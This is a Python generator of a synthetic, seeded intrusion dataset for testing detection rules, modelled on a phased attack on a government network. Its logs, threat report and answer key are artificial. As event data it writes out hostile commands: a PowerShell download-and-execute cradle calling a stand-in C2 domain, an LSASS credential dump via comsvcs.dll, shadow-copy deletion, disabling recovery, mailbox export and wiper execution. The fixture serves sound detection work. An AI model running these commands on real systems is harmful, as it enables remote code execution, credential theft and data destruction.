"""A synthetic, seeded incident: a government network hit in phases by more than one actor.

Every event is written here (nothing is copied from a dataset).  The story, host by host:

1. access (days 1–2): a web shell on the internet-facing SharePoint server ``web01`` after
   exploitation of CVE-2019-0604; ``w3wp.exe`` spawns ``cmd.exe``; discovery commands;
   a C2 beacon to ``update-gov-portal.com`` / 91.238.50.77 (Zeek conn and dns).
2. exfiltration (days 3–6): LSASS dumped with ``comsvcs.dll``; RDP from ``web01`` to ``dc01``
   and ``mail01`` (Security 4624 type 10); PsExec-style service over SMB; mailbox export
   requests through Exchange PowerShell; archives sent out over HTTPS.
3. destruction (day 9): shadow copies deleted, a ransomware binary and a disk wiper on
   ``dc01`` and ``file01``.

Alongside: a short CTI report (text) by a partner CERT, an indicator list (with known-benign
entries that must be suppressed), and ``truth.json`` with the phases, hosts and techniques.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

__all__ = ["DemoIncident", "generate"]

SYSMON = "Microsoft-Windows-Sysmon/Operational"
START = datetime(2022, 7, 11, 6, 0, tzinfo=UTC)
C2_DOMAIN = "update-gov-portal.com"
C2_IP = "91.238.50.77"
EXFIL_IP = "194.36.189.21"
WIPER_SHA256 = "5d7a1b3e0f6c9a2d4e8b7c1f0a9e3d6c2b5a8f7e1d4c0b9a6e3f2d1c8b7a6e5d"
RANSOM_SHA256 = "9c2e4a6b8d0f1e3c5a7b9d1f3e5c7a9b0d2f4e6a8c1b3d5f7e9a0c2e4b6d8f1a"


@dataclass
class DemoIncident:
    root: Path
    evidence: Path
    report: Path
    iocs: Path
    truth: dict[str, Any] = field(default_factory=dict)


class _Writer:
    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)  # noqa: S311 - synthetic test data, reproducible by seed
        self.records: dict[str, int] = {}

    def guid(self) -> str:
        r = self.random
        return f"{{{r.getrandbits(32):08X}-{r.getrandbits(16):04X}-{r.getrandbits(16):04X}-{r.getrandbits(16):04X}-{r.getrandbits(48):012X}}}"

    def event(
        self,
        host: str,
        channel: str,
        event_id: int,
        when: datetime,
        data: dict[str, Any],
        provider: str | None = None,
    ) -> dict[str, Any]:
        key = f"{host}/{channel}"
        self.records[key] = self.records.get(key, 0) + 1
        return {
            "Event": {
                "System": {
                    "Provider": {
                        "#attributes": {
                            "Name": provider
                            or (
                                "Microsoft-Windows-Sysmon"
                                if channel == SYSMON
                                else "Microsoft-Windows-Security-Auditing"
                            )
                        }
                    },
                    "EventID": event_id,
                    "Channel": channel,
                    "Computer": f"{host}.gov.example",
                    "EventRecordID": self.records[key],
                    "TimeCreated": {"#attributes": {"SystemTime": when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
                },
                "EventData": data,
            }
        }

    def rdp_logon(self, host: str, when: datetime) -> dict[str, Any]:
        """The stolen admin account logging on over Remote Desktop from the web server."""
        data = {
            "TargetUserName": "adm-backup",
            "TargetDomainName": "GOV",
            "LogonType": 10,
            "IpAddress": "10.10.5.20",
            "WorkstationName": "WEB01",
            "AuthenticationPackageName": "Negotiate",
        }
        return self.event(host, "Security", 4624, when, data)

    def process(
        self,
        host: str,
        when: datetime,
        image: str,
        command: str,
        parent: str,
        user: str = "NT AUTHORITY\\SYSTEM",
    ) -> dict[str, Any]:
        digest = "".join(self.random.choice("0123456789ABCDEF") for _ in range(64))
        return self.event(
            host,
            SYSMON,
            1,
            when,
            {
                "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessGuid": self.guid(),
                "ProcessId": self.random.randint(1000, 9000),
                "Image": image,
                "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                "CommandLine": command,
                "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": user,
                "IntegrityLevel": "High",
                "Hashes": f"SHA256={digest}",
                "ParentImage": parent,
                "ParentCommandLine": parent,
            },
        )


def _background(w: _Writer, host: str, day: datetime, count: int) -> list[dict[str, Any]]:
    """Ordinary activity the rules must not flag."""
    ordinary = [
        (
            "C:\\Windows\\System32\\svchost.exe",
            "svchost.exe -k netsvcs -p",
            "C:\\Windows\\System32\\services.exe",
        ),
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            '"OUTLOOK.EXE"',
            "C:\\Windows\\explorer.exe",
        ),
        ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "C:\\Windows\\System32\\svchost.exe"),
        (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "chrome.exe --type=renderer",
            "C:\\Windows\\explorer.exe",
        ),
    ]
    events = []
    for _ in range(count):
        image, command, parent = w.random.choice(ordinary)
        when = day + timedelta(minutes=w.random.randint(0, 600))
        events.append(
            w.process(host, when, image, command, parent, user=f"GOV\\user{w.random.randint(1, 40)}")
        )
    return events


def _write_jsonl(path: Path, events: list[dict[str, Any]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    events.sort(key=lambda e: e["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"])
    path.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")


def _zeek(path: Path, log: str, fields: list[str], rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    head = (
        f"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t{log}\n#fields\t"
        + "\t".join(fields)
        + "\n"
    )
    path.write_text(
        head + "".join("\t".join(r) + "\n" for r in rows) + "#close\t2022-07-21-00-00-00\n", encoding="utf-8"
    )


def generate(root: Path, seed: int = 2022) -> DemoIncident:
    """Write the incident under ``root`` (evidence/, intel/, truth.json) and describe it."""
    w = _Writer(seed)
    evidence = root / "evidence"
    day = [START + timedelta(days=d) for d in range(10)]
    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"

    web = _background(w, "web01", day[0], 40)
    web += [
        w.process(
            "web01", day[1] + timedelta(hours=2), cmd, "cmd.exe /c whoami /all", w3wp, "GOV\\svc-sharepoint"
        ),
        w.process(
            "web01",
            day[1] + timedelta(hours=2, minutes=1),
            cmd,
            'cmd.exe /c net group "domain admins" /domain',
            w3wp,
            "GOV\\svc-sharepoint",
        ),
        w.process(
            "web01",
            day[1] + timedelta(hours=2, minutes=3),
            cmd,
            "cmd.exe /c nltest /dclist:gov.example",
            w3wp,
            "GOV\\svc-sharepoint",
        ),
        w.process(
            "web01",
            day[1] + timedelta(hours=3),
            ps,
            f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{C2_DOMAIN}/a')\"",
            cmd,
            "GOV\\svc-sharepoint",
        ),
        w.event(
            "web01",
            SYSMON,
            11,
            day[1] + timedelta(hours=1, minutes=58),
            {
                "Image": w3wp,
                "TargetFilename": "C:\\Program Files\\Common Files\\microsoft shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS\\error2.aspx",
            },
        ),
        w.event(
            "web01",
            SYSMON,
            3,
            day[1] + timedelta(hours=3, minutes=1),
            {
                "Image": ps,
                "DestinationIp": C2_IP,
                "DestinationHostname": C2_DOMAIN,
                "DestinationPort": 443,
                "Protocol": "tcp",
            },
        ),
        w.process(
            "web01",
            day[3] + timedelta(hours=1),
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\lsass.dmp full",
            cmd,
        ),
    ]
    _write_jsonl(evidence / "web01" / "sysmon.jsonl", web)

    dc = _background(w, "dc01", day[2], 40)
    dc += [
        w.rdp_logon("dc01", day[3] + timedelta(hours=4)),
        w.event(
            "dc01",
            "System",
            7045,
            day[3] + timedelta(hours=4, minutes=10),
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            provider="Service Control Manager",
        ),
        w.process(
            "dc01",
            day[8] + timedelta(hours=22),
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            cmd,
        ),
        w.process(
            "dc01",
            day[8] + timedelta(hours=22, minutes=5),
            "C:\\Windows\\System32\\bcdedit.exe",
            "bcdedit.exe /set {default} recoveryenabled no",
            cmd,
        ),
        w.process(
            "dc01",
            day[8] + timedelta(hours=22, minutes=30),
            "C:\\ProgramData\\cl.exe",
            "cl.exe -nothing",
            cmd,
        ),
        w.event(
            "dc01",
            SYSMON,
            11,
            day[8] + timedelta(hours=22, minutes=31),
            {
                "Image": "C:\\ProgramData\\GoXml.exe",
                "TargetFilename": "C:\\Users\\Public\\README_HOW_TO_DECRYPT.txt",
            },
        ),
    ]
    _write_jsonl(evidence / "dc01" / "events.jsonl", dc)

    mail = _background(w, "mail01", day[4], 30)
    mail += [
        w.rdp_logon("mail01", day[4] + timedelta(hours=1)),
        w.process(
            "mail01",
            day[4] + timedelta(hours=1, minutes=20),
            ps,
            "powershell.exe New-MailboxExportRequest -Mailbox minister -FilePath \\\\mail01\\c$\\ProgramData\\m.pst",
            "C:\\Windows\\explorer.exe",
            "GOV\\adm-backup",
        ),
        w.process(
            "mail01",
            day[5] + timedelta(hours=2),
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe a -p C:\\ProgramData\\out.7z C:\\ProgramData\\m.pst",
            cmd,
            "GOV\\adm-backup",
        ),
    ]
    _write_jsonl(evidence / "mail01" / "events.jsonl", mail)

    files = _background(w, "file01", day[8], 20)
    files += [
        w.process(
            "file01",
            day[8] + timedelta(hours=23),
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            cmd,
        ),
        w.event(
            "file01",
            SYSMON,
            6,
            day[8] + timedelta(hours=23, minutes=2),
            {
                "ImageLoaded": "C:\\Windows\\System32\\drivers\\rawdisk3.sys",
                "Hashes": f"SHA256={WIPER_SHA256.upper()}",
                "Signed": "true",
                "Signature": "EldoS Corporation",
            },
        ),
        w.process(
            "file01",
            day[8] + timedelta(hours=23, minutes=3),
            "C:\\ProgramData\\ZeroCleare.exe",
            "ZeroCleare.exe -i",
            cmd,
        ),
    ]
    _write_jsonl(evidence / "file01" / "sysmon.jsonl", files)

    base = day[1] + timedelta(hours=3, minutes=1)
    conn = [
        [
            f"{(base + timedelta(minutes=5 * i)).timestamp():.6f}",
            f"C{i:05d}",
            "10.10.5.20",
            str(w.random.randint(49000, 60000)),
            C2_IP,
            "443",
            "tcp",
            "ssl",
            "120.5",
            "3200",
            "18000",
        ]
        for i in range(12)
    ]
    conn += [
        [
            f"{(day[5] + timedelta(hours=3, minutes=i)).timestamp():.6f}",
            f"X{i:05d}",
            "10.10.7.5",
            "51000",
            EXFIL_IP,
            "443",
            "tcp",
            "ssl",
            "600.0",
            "250000000",
            "9000",
        ]
        for i in range(3)
    ]
    _zeek(
        evidence / "zeek" / "conn.log",
        "conn",
        [
            "ts",
            "uid",
            "id.orig_h",
            "id.orig_p",
            "id.resp_h",
            "id.resp_p",
            "proto",
            "service",
            "duration",
            "orig_bytes",
            "resp_bytes",
        ],
        conn,
    )
    dns = [
        [
            f"{(base - timedelta(seconds=2)).timestamp():.6f}",
            "D00001",
            "10.10.5.20",
            "53",
            "10.10.1.10",
            "53",
            C2_DOMAIN,
            "A",
            f"{C2_IP}",
        ]
    ]
    dns += [
        [
            f"{(base + timedelta(minutes=m)).timestamp():.6f}",
            f"D{m:05d}",
            "10.10.9.9",
            "53",
            "10.10.1.10",
            "53",
            "www.microsoft.com",
            "A",
            "23.45.67.89",
        ]
        for m in range(3)
    ]
    _zeek(
        evidence / "zeek" / "dns.log",
        "dns",
        ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "query", "qtype_name", "answers"],
        dns,
    )

    intel = root / "intel"
    intel.mkdir(parents=True, exist_ok=True)
    report = intel / "partner-cert-report.txt"
    report.write_text(
        "Partner CERT flash report: destructive intrusion at a government ministry\n\n"
        "Summary. In July 2022 an intrusion set targeted government networks in Albania. Initial access came through "
        "exploitation of CVE-2019-0604 in an internet-facing SharePoint server, where the intruders planted a Web Shell.\n\n"
        "Activity. The operators dumped LSASS memory with comsvcs.dll, moved laterally over Remote Desktop Protocol and SMB, "
        "and collected mailboxes through Exchange export requests before exfiltrating archives over HTTPS.\n\n"
        f"- Command and control: hxxp://{C2_DOMAIN.replace('.', '[.]')}/a and {C2_IP.replace('.', '[.]', 1)}\n"
        f"- Exfiltration server: {EXFIL_IP}\n"
        "- The final stage deployed ransomware and the ZeroCleare wiper through a signed raw disk driver.\n\n"
        "Public reporting has named an Iranian group in connection with similar activity; this report makes no attribution.\n",
        encoding="utf-8",
    )
    iocs = intel / "partner-iocs.csv"
    iocs.write_text(
        "type,value,comment\n"
        f"domain,{C2_DOMAIN.replace('.', '[.]')},C2\n"
        f"ip,{C2_IP},C2\n"
        f"ip,{EXFIL_IP},exfiltration\n"
        f"sha256,{WIPER_SHA256},raw disk driver used by the wiper\n"
        "ip,8.8.8.8,resolver seen in logs (benign)\n"
        "domain,www.microsoft.com,update traffic (benign)\n",
        encoding="utf-8",
    )
    truth = {
        "seed": seed,
        "phases": {
            "access": {
                "hosts": ["web01"],
                "techniques": ["T1190", "T1505.003", "T1033", "T1069.002", "T1018", "T1059.001", "T1071.001"],
            },
            "exfiltration": {
                "hosts": ["web01", "dc01", "mail01"],
                "techniques": ["T1003.001", "T1021.001", "T1569.002", "T1114.002", "T1560.001", "T1048"],
            },
            "destruction": {"hosts": ["dc01", "file01"], "techniques": ["T1490", "T1486", "T1561.002"]},
        },
        "actors": "more than one actor, split by phase (access, exfiltration, destruction), as in the public account of the July 2022 attack on Albania",
        "indicators": {
            "c2_domain": C2_DOMAIN,
            "c2_ip": C2_IP,
            "exfil_ip": EXFIL_IP,
            "wiper_driver_sha256": WIPER_SHA256,
        },
        "benign_in_indicator_list": ["8.8.8.8", "www.microsoft.com"],
    }
    (root / "truth.json").write_text(json.dumps(truth, indent=2), encoding="utf-8")
    return DemoIncident(root, evidence, report, iocs, truth)
